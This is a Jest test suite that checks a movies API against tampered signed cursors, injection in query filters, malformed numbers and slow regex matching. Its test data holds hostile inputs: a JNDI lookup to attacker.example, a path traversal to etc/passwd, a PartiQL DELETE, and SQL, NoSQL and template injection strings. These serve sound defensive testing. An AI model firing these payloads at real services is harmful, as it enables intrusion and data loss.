import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { createCursors } from '../../../app/src/movies/cursor.ts';
import { type Api, startApi } from '../../support/api.ts';
import { createClient } from '../../support/client.ts';
import { aMovie } from '../../support/movies.ts';
import { observe } from './attacker.ts';

let api: Api;
const secret = 's'.repeat(32);
beforeAll(async () => {
  api = await startApi({ CURSOR_SECRETS: secret });
  for (const title of ['A', 'B', 'C']) await api.writer('POST', '/movies', { body: aMovie({ title }) });
});
afterAll(() => api.stop());

const get = (path: string) => observe(api, () => api.reader('GET', path));
const cursorOf = async (path: string) => {
  const { json } = await api.reader('GET', path);
  return new URL((json as { next: string }).next, 'http://api').searchParams.get('cursor') ?? '';
};
const refusedCursor = {
  status: 400,
  detail: 'cursor was not given out by this query.',
  errors: [{ in: 'query', field: 'cursor', message: 'was not given out by this query' }],
  databaseCalls: 0,
};
const position = { year: '2013', title: 'A' };

describe('cursors that were tampered with (API1, API8)', () => {
  const list = '/movies?year=2013&limit=1';

  test('a cursor that was not goes on, so that the refusals below mean something', async () => {
    const answer = await get(`${list}&cursor=${await cursorOf(list)}`);

    expect(answer).toMatchObject({ status: 200, body: { movies: [{ title: 'B' }] }, databaseCalls: 1 });
  });

  test.each<[string, (bytes: Buffer) => Buffer]>([
    ['a bit of its version turned', (bytes) => turned(bytes, 0)],
    ['the first bit of its signature turned', (bytes) => turned(bytes, 1)],
    ['the last bit of its signature turned', (bytes) => turned(bytes, 32)],
    ['the first bit of its position turned', (bytes) => turned(bytes, 33)],
    ['its last bit turned', (bytes) => turned(bytes, bytes.length - 1)],
    ['its end cut off', (bytes) => bytes.subarray(0, -1)],
    ['only its signature', (bytes) => bytes.subarray(0, 33)],
    ['only its version', (bytes) => bytes.subarray(0, 1)],
    ['a byte behind', (bytes) => Buffer.concat([bytes, Buffer.of(0)])],
    [
      'a position of its own',
      (bytes) => Buffer.concat([bytes.subarray(0, 33), Buffer.from('{"year":"1","title":"x"}')]),
    ],
    [
      'a signature of zeros',
      (bytes) => Buffer.concat([bytes.subarray(0, 1), Buffer.alloc(32), bytes.subarray(33)]),
    ],
  ])('a cursor with %s is refused', async (_what, tamper) => {
    const cursor = tamper(Buffer.from(await cursorOf(list), 'base64url')).toString('base64url');

    expect(await get(`${list}&cursor=${cursor}`)).toEqual(refusedCursor);
  });

  test.each<[string, string]>([
    ['another year', '/movies?year=2014&limit=1'],
    ['no year', '/movies?limit=1'],
    ['a filter more', '/movies?year=2013&genre=Drama&limit=1'],
    ['another order', '/movies?year=2013&sort=rating&limit=1'],
  ])('a cursor is refused for %s', async (_what, path) => {
    expect(await get(`${path}&cursor=${await cursorOf(list)}`)).toEqual(refusedCursor);
  });

  test.each<[string, () => string]>([
    ['of another secret', () => createCursors(['t'.repeat(32)]).encode(position, { year: 2013 })],
    ['of the empty secret', () => createCursors(['']).encode(position, { year: 2013 })],
    [
      'that is a key of DynamoDB',
      () => Buffer.from('{"year":{"N":"2013"},"title":{"S":"A"}}').toString('base64url'),
    ],
    ['that is a path', () => '..%2f..%2fetc%2fpasswd'],
    ['that is spelt with padding', () => `${createCursors([secret]).encode(position, { year: 2013 })}%3D`],
    ['that is spelt with blanks', () => `${createCursors([secret]).encode(position, { year: 2013 })}%20`],
  ])('a cursor %s is refused', async (_what, forge) => {
    expect(await get(`${list}&cursor=${forge()}`)).toEqual(refusedCursor);
  });

  test.each<[string, string]>([
    ['longer than any', `cursor=${'A'.repeat(8_705)}`],
    ['empty', 'cursor='],
    ['given twice', 'cursor=AQ&cursor=AQ'],
  ])('a cursor that is %s is refused', async (_what, query) => {
    expect(await get(`${list}&${query}`)).toMatchObject({
      status: 400,
      errors: [{ in: 'query', field: 'cursor' }],
      databaseCalls: 0,
    });
  });

  test("another caller's cursor shows what that caller may see anyway, and opens no door", async () => {
    const path = `${list}&cursor=${await cursorOf(list)}`;
    const another = createClient(api.port, {
      authorization: `Bearer ${await api.issuer.token('movies/read')}`,
    });

    const got = [await another('GET', path), await api.nobody('GET', path), await api.stranger('GET', path)];

    expect(got.map(({ status }) => status)).toEqual([200, 403, 401]);
  });
});

function turned(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt8(copy.readUInt8(at) ^ 1, at);
  return copy;
}

describe('expressions in filters (API8)', () => {
  const nothing = { status: 200, body: { movies: [] }, databaseCalls: 1 };

  test.each<[string, string]>([
    ['the name of an attribute', 'genre=%23info'],
    ['a placeholder', 'genre=:v0'],
    ['a condition', 'genre=x%20OR%20attribute_exists(title)'],
    ['a condition behind a quote', `director=${encodeURIComponent("' OR '1'='1")}`],
    ['a function', 'actor=begins_with(title,%20:v0)'],
    ['an operator of MongoDB as text', `title=${encodeURIComponent('{"$ne":null}')}`],
    ['a value of DynamoDB', `title=${encodeURIComponent('{"S":"A"}')}`],
    ['PartiQL', `title=${encodeURIComponent(`A'; DELETE FROM "movies" WHERE 'a'='a`)}`],
    ['a template', `title=${encodeURIComponent('${7*7}{{7*7}}<%=7*7%>')}`],
    ['JNDI', `title=${encodeURIComponent('${jndi:ldap://attacker.example/a}')}`],
    ['a wildcard', 'title=*'],
    ['a null byte', 'title=A%00'],
    ['an expression', `title=${encodeURIComponent('(a+)+$')}`],
  ])('%s finds nothing, since it is only a text', async (_what, query) => {
    expect(await get(`/movies?${query}`)).toEqual(nothing);
  });

  test.each([
    'genre[$ne]=x',
    'genre[]=x',
    'year[$gt]=1',
    'filter=title%3DA',
    '$where=1',
    'FilterExpression=x',
    'ProjectionExpression=revision',
    'limit=1;DROP',
    'sort=-rating&year=2013',
    'sort=rating;&year=2013',
  ])('%s is refused', async (query) => {
    expect(await get(`/movies?${query}`)).toMatchObject({
      status: 400,
      errors: [{ in: 'query' }],
      databaseCalls: 0,
    });
  });
});

describe('numbers in queries (API4)', () => {
  test.each([
    ['limit', '101'],
    ['limit', '-1'],
    ['limit', '-0'],
    ['limit', '0'],
    ['limit', '1.5'],
    ['limit', '1e400'],
    ['limit', 'NaN'],
    ['limit', 'Infinity'],
    ['limit', '0x10'],
    ['limit', '0b1'],
    ['limit', '010'],
    ['limit', '%2B5'],
    ['limit', '%205'],
    ['limit', '5%0a'],
    ['limit', '1_0'],
    ['limit', '%D9%A5'],
    ['limit', '9'.repeat(400)],
    ['limit', ''],
    ['limit', 'null'],
    ['limit', 'true'],
    ['year', '1e3000'],
    ['year', '0x7DD'],
    ['year', '-2013'],
    ['year', '2013,2014'],
    ['minRating', '1e400'],
    ['minRating', '-1'],
    ['minRating', '0x8'],
    ['minRating', '10.0000001'],
  ])('%s=%s is refused', async (field, value) => {
    const answer = await get(`/movies?${field}=${value}`);

    expect(answer).toMatchObject({ status: 400, errors: [{ in: 'query', field }], databaseCalls: 0 });
  });
});

describe('texts that are hard to match (API4)', () => {
  const long = 7_000;
  test.each<[string, Record<string, string>, number]>([
    ['Accept', { accept: 'a/b;q=0.1,'.repeat(1_400) }, 406],
    ['Accept with many blanks', { accept: `application/json;${' '.repeat(long)}x` }, 200],
    ['Authorization', { authorization: `Bearer ${' '.repeat(long)}!` }, 401],
    ['Authorization with many parts', { authorization: `Bearer ${'=a'.repeat(long)}` }, 401],
    ['If-None-Match', { 'if-none-match': `${' '.repeat(990)}x` }, 400],
    ['If-None-Match with many tags', { 'if-none-match': '"",'.repeat(333) }, 200],
    ['If-None-Match beyond what is read', { 'if-none-match': '"a",'.repeat(2_000) }, 200],
    ['traceparent', { traceparent: `00-${'0'.repeat(long)}` }, 200],
    ['X-Request-Id', { 'x-request-id': 'a'.repeat(long) }, 200],
    ['Range', { range: `bytes=${'0-,'.repeat(2_000)}` }, 200],
  ])('%s is matched in time', async (_what, headers, status) => {
    const startedAt = performance.now();

    const answer = await api.reader('GET', '/movies/2013/A', { headers });

    expect(answer.status).toBe(status);
    // A runaway match takes minutes; a busy machine takes seconds.
    expect(performance.now() - startedAt).toBeLessThan(60_000);
  });

  test.each<[string, string]>([
    ['release_date', `${'0'.repeat(50_000)}T`],
    ['image_url', `http://${'a.'.repeat(1_000)}`],
    ['plot', '<script>'.repeat(2_000)],
  ])('%s of a movie is matched in time', async (field, text) => {
    const startedAt = performance.now();

    const answer = await api.writer('POST', '/movies', {
      body: aMovie({ title: field, info: { [field]: text } }),
    });

    expect([201, 400]).toContain(answer.status);
    expect(performance.now() - startedAt).toBeLessThan(60_000);
  });
});
